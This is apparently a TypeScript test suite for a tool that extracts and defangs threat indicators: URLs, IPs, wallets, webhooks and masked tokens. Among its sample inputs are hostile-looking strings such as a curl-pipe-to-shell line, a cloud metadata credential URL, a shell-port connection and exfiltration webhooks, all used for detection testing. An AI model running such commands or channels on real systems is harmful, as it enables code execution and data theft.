import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { IndicatorType, TextKind } from './indicator.ts'
import { RESERVED, defang, indicatorsIn, mask } from './index.ts'

const found = (text: string, kind: TextKind = 'literal'): string[] => indicatorsIn(text, kind).map(({ type, value }) => `${type} ${value}`)
const says = (text: string, kind: TextKind = 'literal'): (string | undefined)[] => indicatorsIn(text, kind).map((one) => one.says)
/** Built from pieces: nothing in here is a key, and nothing that looks for keys should think so. */
const made = (...pieces: string[]): string => pieces.join('')
const NOISE = 'aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY'

const ONION = 'duckduckgogg42xjoc72x3sjasowoarfbgcmvfimaftt6twagswzczad.onion'
const BTC = '1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2'
const ETH = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'
const XMR = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'
const SHA256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'
const MD5 = 'd41d8cd98f00b204e9800998ecf8427e'

describe('what is found', () => {
  it.each<[string, ...string[]]>([
    ['https://c2.example/x', 'url https://c2.example/x', 'domain c2.example'],
    ['https://c2.example/', 'url https://c2.example', 'domain c2.example'],
    ['HTTPS://C2.EXAMPLE/Path', 'url https://c2.example/Path', 'domain c2.example'],
    ['see https://c2.example/a.', 'url https://c2.example/a', 'domain c2.example'],
    ['(https://c2.example/a_(b))', 'url https://c2.example/a_(b)', 'domain c2.example'],
    ['<https://c2.example:8443/a?b=c#d>', 'url https://c2.example:8443/a?b=c#d', 'domain c2.example'],
    ['https://user:secret@c2.example/', 'url https://***@c2.example', 'domain c2.example'],
    ['wss://c2.example/ws', 'url wss://c2.example/ws', 'domain c2.example'],
    ['ftp://c2.example', 'url ftp://c2.example', 'domain c2.example'],
    ['stratum+tcp://pool.example:3333', 'url stratum+tcp://pool.example:3333', 'domain pool.example'],
    ['//c2.example/x.js', 'url https://c2.example/x.js', 'domain c2.example'],
    ['https://data.zip/x', 'url https://data.zip/x', 'domain data.zip'],
    ['https://main.rs', 'url https://main.rs', 'domain main.rs'],
    ['https://c2.example/${id}', 'url https://c2.example', 'domain c2.example'],
    ['https://….c2.example/x', 'domain c2.example'],
    ['https://x….oast.example/', 'domain oast.example'],
    ['https://xn--e1afmkfd.xn--p1ai/', 'url https://xn--e1afmkfd.xn--p1ai', 'domain xn--e1afmkfd.xn--p1ai'],
    ['https://пример.рф/', 'url https://xn--e1afmkfd.xn--p1ai', 'domain xn--e1afmkfd.xn--p1ai'],
    [`http://${ONION}/`, `url http://${ONION}`, `onion ${ONION}`],
    ['http://expyuzz4wqqyqhjn.onion/a', 'url http://expyuzz4wqqyqhjn.onion/a', 'onion expyuzz4wqqyqhjn.onion'],
    // addresses in all spellings
    ['http://192.0.2.1/', 'url http://192.0.2.1', 'ipv4 192.0.2.1'],
    ['http://3221225985/', 'url http://192.0.2.1', 'ipv4 192.0.2.1'],
    ['http://0xC0000201/a', 'url http://192.0.2.1/a', 'ipv4 192.0.2.1'],
    ['http://030000001001:8080/a', 'url http://192.0.2.1:8080/a', 'ipv4 192.0.2.1'],
    ['http://0300.0.0x2.1', 'url http://192.0.2.1', 'ipv4 192.0.2.1'],
    ['http://192.513', 'url http://192.0.2.1', 'ipv4 192.0.2.1'],
    ['http://0xC0.0x00.0x02.0x01', 'url http://192.0.2.1', 'ipv4 192.0.2.1'],
    ['http://[::ffff:192.0.2.1]/', 'url http://192.0.2.1', 'ipv4 192.0.2.1'],
    ['http://[::ffff:c000:201]:80/x', 'url http://192.0.2.1:80/x', 'ipv4 192.0.2.1'],
    ['http://[2001:DB8::1]:8080/x', 'url http://[2001:db8::1]:8080/x', 'ipv6 2001:db8::1'],
    ['198.51.100.7', 'ipv4 198.51.100.7'],
    ['connect to 203.0.113.9:4444', 'ipv4 203.0.113.9'],
    ['203.0.113.9/shell', 'ipv4 203.0.113.9'],
    ['0xC0.0x00.0x02.0x01', 'ipv4 192.0.2.1'],
    ['0300.0000.0002.0001', 'ipv4 192.0.2.1'],
    ['host: 5.9.11.2', 'ipv4 5.9.11.2'],
    ['5.9.11.2:4444', 'ipv4 5.9.11.2'],
    ['8.8.8.8', 'ipv4 8.8.8.8'],
    ['2001:db8::1', 'ipv6 2001:db8::1'],
    ['[2001:db8:0:0:0:0:0:1]', 'ipv6 2001:db8::1'],
    ['2001:0db8:0000:0000:0000:ff00:0042:8329', 'ipv6 2001:db8::ff00:42:8329'],
    ['http://169.254.169.254/latest/meta-data/', 'url http://169.254.169.254/latest/meta-data/', 'ipv4 169.254.169.254'],
    // written so that nobody follows them
    ['hxxps://c2[.]example/x', 'url https://c2.example/x', 'domain c2.example'],
    ['hxxp[://]c2[.]example', 'url http://c2.example', 'domain c2.example'],
    ['hXXp://192[.]0[.]2[.]1/', 'url http://192.0.2.1', 'ipv4 192.0.2.1'],
    ['198[.]51[.]100[.]7', 'ipv4 198.51.100.7'],
    ['drop(.)c2(.)example', 'domain drop.c2.example'],
    ['stats[dot]example', 'domain stats.example'],
    ['someone[at]mail[.]example', 'email someone@mail.example'],
    // names alone
    ['drop.example', 'domain drop.example'],
    ['evil-host.com', 'domain evil-host.com'],
    ['evil-host.com.', 'domain evil-host.com'],
    ['api.evil.net/v1/collect', 'domain api.evil.net'],
    ['evilhost.ru', 'domain evilhost.ru'],
    ['c2.node-stats.top', 'domain c2.node-stats.top'],
    ['api.stealer.app', 'domain api.stealer.app'],
    ['abc.oast.fun', 'domain abc.oast.fun'],
    ['….abc.oast.fun', 'domain abc.oast.fun'],
    ['bit.ly/3abc', 'domain bit.ly'],
    ['stealer.dev:8080', 'domain stealer.dev'],
    ['host=evil-host.org;', 'domain evil-host.org'],
    ['_dmarc.evil-host.org', 'domain _dmarc.evil-host.org'],
    // people
    ['someone@mail.example', 'email someone@mail.example'],
    ['mailto:some.one+x@mail.example?subject=a', 'email some.one+x@mail.example'],
    ['Some One <some@sub.mail.example>', 'email some@sub.mail.example'],
    ['a@proton.me, b@proton.me', 'email a@proton.me', 'email b@proton.me'],
    ['someone@domain.rs', 'email someone@domain.rs'],
    // wallets
    [BTC, `wallet ${BTC}`],
    ['3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy', 'wallet 3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy'],
    ['bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4', 'wallet bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4'],
    ['bc1p5cyxnuxmeuwuvkwfem96lqzszd02n6xdcjrs20cac6yqjjwudpxqkedrcr', 'wallet bc1p5cyxnuxmeuwuvkwfem96lqzszd02n6xdcjrs20cac6yqjjwudpxqkedrcr'],
    [ETH, `wallet ${ETH}`],
    [`wallet: ${ETH.toLowerCase()}`, `wallet ${ETH.toLowerCase()}`],
    [XMR, `wallet ${XMR}`],
    ['TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t', 'wallet TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t'],
    ['solana address 7EcDhSYGxXyscszYEp35KHN8vvw3svAuLKTzXwCFLtV', 'wallet 7EcDhSYGxXyscszYEp35KHN8vvw3svAuLKTzXwCFLtV'],
    // webhooks and keys, masked
    ['https://discord.com/api/webhooks/123456789012345678/abcdefghijklmnop', 'webhook https://discord.com/api/webhooks/123456789012345678/abcdef***op', 'domain discord.com'],
    ['https://ptb.discordapp.com/api/v9/webhooks/1234/abcdefghijklmnop', 'webhook https://ptb.discordapp.com/api/v9/webhooks/1234/abcdef***op', 'domain ptb.discordapp.com'],
    ['discord.com/api/webhooks/1234/abcdefghijklmnop', 'webhook https://discord.com/api/webhooks/1234/abcdef***op', 'domain discord.com'],
    [made('https://hooks.slack.com/ser', 'vices/T0000/B0000/abcdefghijklmnop'), 'webhook https://hooks.slack.com/services/T0000/B0000/abcdef***op', 'domain hooks.slack.com'],
    [`https://api.telegram.org/bot123456789:${NOISE}abc/sendMessage`, 'webhook https://api.telegram.org/bot123456***bc/sendMessage', 'domain api.telegram.org'],
    ['https://api.telegram.org/bot…/sendMessage', 'webhook https://api.telegram.org/bot…***/sendMessage', 'domain api.telegram.org'],
    ['https://acme.webhook.office.com/webhookb2/aaaa-bbbb@cccc/IncomingWebhook/dddd', 'webhook https://acme.webhook.office.com/webhookb2/aaaa-b***dd', 'domain acme.webhook.office.com'],
    [`123456789:${NOISE}abc`, 'bot-token 123456***bc'],
    [made('gh', 'p_', NOISE, 'abcd'), 'bot-token ghp_aB***cd'],
    [made('github', '_pat_', NOISE), 'bot-token github***xY'],
    [made('npm', '_', NOISE, 'abcd'), 'bot-token npm_aB***cd'],
    [made('pypi', '-', NOISE, NOISE), 'bot-token pypi-a***xY'],
    [made('xo', 'xb-1234567890-', NOISE), 'bot-token xoxb-1***xY'],
    [made('AK', 'IA', 'QWERTYUIOPASDF23'), 'bot-token AKIAQW***23'],
    [made('MTIzNDU2Nzg5MDEyMzQ1Njc4', '.', 'aBcDeF', '.', NOISE), 'bot-token MTIzND***xY'],
    // hashes
    [`sha256:${SHA256}`, `hash ${SHA256}`],
    [`md5 = ${MD5.toUpperCase()}`, `hash ${MD5}`],
    [`${SHA256} (sha-256)`, `hash ${SHA256}`],
    [`${MD5}, ${[...MD5].reverse().join('')}`, `hash ${MD5}`, `hash ${[...MD5].reverse().join('')}`],
  ])('%s', (text, ...expected) => expect(found(text)).toEqual(expected))

  it.each<[string, ...string[]]>([
    ['curl -s evilhost.io/x', 'domain evilhost.io'],
    ['ping 5.9.11.2', 'ipv4 5.9.11.2'],
    ['nslookup x.dns.stealer.dev', 'domain x.dns.stealer.dev'],
    ['git clone github.com/some/repo', 'domain github.com'],
    ['curl 192.0.2.1|sh', 'ipv4 192.0.2.1'],
  ])('in a command: %s', (text, ...expected) => expect(found(text, 'command')).toEqual(expected))
})

describe('false friends', () => {
  it.each([
    'README.md', 'setup.py', 'self.name', '4.14.0.1', 'os.path', 'foo.bar.call', 'lodash.merge', 'socket.io', 'index.js', 'data.zip', 'main.rs', 'x.sh', 'a.py',
    'self.org', 'n.net', 'process.versions.icu', 'node.key.name', 'l.bottom-l.top', 'request.size.invalid', 'api.user.name', '2.5.29.35', '2.5.4.77',
    'user.email', 'config.host', 'console.info', 'process.env', 'e.rest', 'rect.top', 'this.state.name', 'Object.prototype.toString', 'module.exports', 'jest.fn', 'jest.global',
    'vite.config.ts', 'tsconfig.json', 'lib/foo.com', './foo.net', 'node_modules/foo.org/x', 'C:\\dir\\file.com', 'System.IO', 'ASP.NET', 'asp.net', 'fooBar.com', 'my_module.name',
    'com.google.common', 'org.apache.commons.io', 'com.example.app', 'io.netty.com', 'java.util.net', 'github.com/user/repo', 'golang.org/x/net', 'k8s.io/api',
    'text/html', 'application/vnd.foo.bar+xml', 'e.g.', 'i.e. this', 'etc.', 'v1.2.3.4', '>=1.2.3 <2.0.0', '^1.0.0', '~1.2', '1.2.x', '1.0.0-rc.1', 'version 10.4.33.1',
    'Chrome/99.0.48.51', 'release-4.33.99.1', '1.3.6.1.4.1.311', '1.2.840.113549', '256.1.1.100', '1.2.3', '2024.01.02.03', '198.51.100.0/24', '3221225985', '0xC0000201',
    'messages.de', 'locale.fr', 'main.ru', 'strings.cn', 'foo.com(', '$foo.com', '@foo.com/bar', 'npm:foo.bar@1.0.0', '.com', 'com.', '...', 'a..b', '-', 'M1.25 5a2.122.75.75 0 010',
    'http://localhost:3000/', 'http://127.0.0.1:8080', 'http://0.0.0.0', 'http://[::1]:80', 'http://10.0.0.1/', 'http://172.16.5.4/', 'http://192.168.1.1', 'http://169.254.1.1',
    'http://224.0.0.251', 'http://255.255.255.255', 'http://2130706433/', 'http://0x7f.1', 'http://[::ffff:127.0.0.1]/', 'http://[fe80::1%25eth0]/', 'http://[fd00::1]', 'http://[ff02::1]',
    'http://db.local/', 'http://app.internal', 'http://intranet/', 'http://…/', 'https://', 'https://$host/', 'http://…:…/',
    'http://www.w3.org/2000/svg', 'https://json-schema.org/draft-07/schema#', 'http://schemas.xmlsoap.org/soap/', 'http://schemas.microsoft.com/x', 'https://developer.mozilla.org/en-US/',
    'std::string', '::before', 'a::b', '12:34:56', '00:11:22:33:44:55', '00:11:22:33:44:55:66:77', 'key:value', 'a:b:c', 'fe::', '1:2',
    'git@github.com:user/repo.git', 'user@host', 'name@1.2.3', '@scope/pkg', '@scope/pkg@1.2.3', 'logo@2x.png', 'icon@3x.com', 'foo@npm:bar@1.0.0', 'react@next', 'a@b', '@media.com',
    '// comment about foo.bar', '/* foo */', 'path//to//x', 'foo.test', 'env.example', '.env.example', 'settings.example',
    `${BTC.slice(0, -1)}3`, ETH.toLowerCase(), ETH.replace('aAeb', 'AAeb'), `${XMR.slice(0, -1)}B`, 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5', `0x${'0'.repeat(40)}`,
    '7EcDhSYGxXyscszYEp35KHN8vvw3svAuLKTzXwCFLtV', MD5, SHA256, `sha512-${'A'.repeat(86)}==`, '123e4567-e89b-42d3-a456-426614174000',
    'ghp_', 'npm_config_registry', 'xoxb-', 'AKIAEXAMPLE', `gh${'p_'}${'x'.repeat(36)}`, 'pypi-server', 'The quick brown fox.Then it ran', 'Hello.World', '',
    'http://abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyzabcd.onion',
  ])('%s', (text) => expect(found(text)).toEqual([]))
})

describe('what is said', () => {
  it.each<[string, string]>([
    ['https://c2.example/', RESERVED], ['http://192.0.2.1/', RESERVED], ['2001:db8::1', RESERVED], ['https://example.com/x', RESERVED],
    ['http://3221225985/', 'spelled 3221225985'], ['http://169.254.169.254/', 'the metadata service of a cloud: hands out credentials'], [BTC, 'Bitcoin'], [XMR, 'Monero'],
    ['8.8.8.8', 'a public resolver'], ['https://discord.com/api/webhooks/1/abcdefghijklmnop', 'posts into a Discord channel'],
  ])('%s: %s', (text, expected) => expect(says(text)).toContain(expected))

  it('keeps places, defanged or not, and says each thing once', () => {
    const text = 'a hxxps://c2[.]example and https://c2.example and b@mail[.]example'
    expect(indicatorsIn(text, 'literal').map(({ type, at }) => [type, text.slice(at, at + 4)])).toEqual([['url', 'hxxp'], ['domain', 'c2[.'], ['email', 'b@ma']])
  })

  it('hides secrets', () => {
    expect(mask('abcdefghijklmnop')).toBe('abcdef***op')
    expect(mask('short')).toBe('sh***')
    expect(mask(mask('abcdefghijklmnop'))).toBe('abcdef***op')
    expect(JSON.stringify(indicatorsIn(`https://api.telegram.org/bot123456789:${NOISE}abc/getMe`, 'literal'))).not.toContain(NOISE)
  })

  it.each<[IndicatorType, string, string]>([
    ['url', 'https://a.example/b.c', 'hxxps://a[.]example/b.c'], ['url', 'http://[2001:db8::1]:80/x', 'hxxp://[2001[:]db8[:][:]1]:80/x'], ['domain', 'a.b.example', 'a[.]b[.]example'],
    ['ipv4', '192.0.2.1', '192[.]0[.]2[.]1'], ['ipv6', '2001:db8::1', '2001[:]db8[:][:]1'], ['email', 'a.b@c.example', 'a.b[@]c[.]example'], ['wallet', BTC, BTC],
  ])('defangs a %s: %s', (type, value, expected) => expect(defang(value, type)).toBe(expected))
})

describe('whatever comes in', () => {
  const label = fc.stringMatching(/^[a-z][a-z0-9]{2,8}$/)
  const host = fc.oneof(fc.tuple(label, fc.constantFrom('example', 'com', 'xyz', 'co.uk', 'invalid')).map((parts) => parts.join('.')), fc.constantFrom('192.0.2.1', '198.51.100.77', '[2001:db8::5]', ONION))
  const piece = fc.oneof(
    fc.tuple(fc.constantFrom('http', 'https', 'wss', 'hxxp'), host, fc.constantFrom('', '/', '/a/b?c=d', ':8080/x')).map(([scheme, name, path]) => `${scheme}://${name}${path}`),
    fc.tuple(label, host).map(([local, name]) => `${local}@${name}`), host, fc.constantFrom(BTC, ETH, XMR, `sha256 ${SHA256}`, '[.]', '://', '@', '…', '::', '.', '//'),
    fc.string({ unit: 'binary', maxLength: 20 }), fc.string({ maxLength: 20 }),
  )
  const texts = fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(' '))
  const kinds = fc.constantFrom<TextKind>('literal', 'folded', 'decoded', 'command', 'manifest')

  it('nothing throws, and everything is inside the text', () => fc.assert(fc.property(fc.oneof(texts, fc.string({ unit: 'binary' })), kinds, (text, kind) => {
    for (const { at, value } of indicatorsIn(text, kind)) {
      expect(at >= 0 && at < text.length).toBe(true)
      expect(value.length).toBeGreaterThan(0)
    }
  }), { numRuns: 1000 }))

  it('what was found is found again in its defanged spelling', () => fc.assert(fc.property(texts, (text) => {
    for (const { type, value } of indicatorsIn(text, 'decoded')) {
      if (type === 'bot-token' || type === 'hash') continue
      expect(indicatorsIn(defang(value, type), 'command').map((one) => `${one.type} ${one.value}`)).toContain(`${type} ${value}`)
    }
  }), { numRuns: 1000 }))

  it('ends on long hostile texts', () => {
    for (const unit of ['.', 'a.', '://', '//', '@', 'a@b.', '::', '1:', '[.]', 'hxxp:', '0x', 'https://a.example/)))', 'https://….', '…', 'xoxb-', '1111111111:', `${BTC} `, `${MD5},`, 'a', '....(((', 'https://a.b/....']) {
      expect(indicatorsIn(unit.repeat(Math.ceil(2_000_000 / unit.length)), 'literal').length).toBeLessThan(1001)
    }
  }, 120_000)
})
